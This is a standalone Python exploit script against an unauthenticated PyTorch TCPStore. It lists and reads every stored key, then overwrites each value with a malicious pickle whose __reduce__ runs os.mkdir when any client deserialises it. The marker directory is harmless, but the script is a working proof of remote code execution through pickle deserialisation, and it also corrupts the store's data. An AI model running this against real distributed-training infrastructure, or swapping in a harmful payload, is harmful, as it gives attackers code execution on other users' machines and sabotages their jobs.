#!/usr/bin/env python3
"""tcpstore.py HOST:PORT MARK: what can be had of a torch TCPStore without saying who one is.

Lists the keys, reads each, and puts a pickle into each that makes the folder MARK when somebody reads it. Prints how many were read and
overwritten, or why it could not begin. The requests are those of torch 2.11's client as seen on its connection: a byte for what is wanted,
and texts with their lengths (8 bytes, little-endian) before them.
"""
import os
import pickle
import socket
import struct
import sys

VALIDATE, SET, GET, LIST_KEYS = b"\x00", b"\x01", b"\x03", b"\x11"
MAGIC = bytes.fromhex("cef7853c")


class Evil:
    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return os.mkdir, (self.mark,)


def text(data):
    return struct.pack("<Q", len(data)) + data


class Store:
    def __init__(self, host, port):
        self.socket = socket.create_connection((host, port), 10)
        self.socket.sendall(VALIDATE + MAGIC)

    def exactly(self, size):
        data = b""
        while len(data) < size:
            more = self.socket.recv(size - len(data))
            if not more:
                raise ConnectionError("hung up on")
            data += more
        return data

    def number(self):
        return struct.unpack("<Q", self.exactly(8))[0]

    def keys(self):
        self.socket.sendall(LIST_KEYS)
        return [self.exactly(self.number()) for _ in range(self.number())]

    def get(self, key):
        self.socket.sendall(GET + text(key))
        return self.exactly(self.number())

    def set(self, key, value):
        self.socket.sendall(SET + text(key) + text(value))


host, _, port = sys.argv[1].rpartition(":")
read = overwritten = 0
try:
    store = Store(host, int(port))
    evil = pickle.dumps(Evil(sys.argv[2]))
    for key in store.keys():
        read += len(store.get(key)) > 0
        store.set(key, evil)
        overwritten += store.get(key) == evil
except OSError as error:
    print(sys.argv[1], error, flush=True)
print(sys.argv[1], "read", read, "overwritten", overwritten, flush=True)
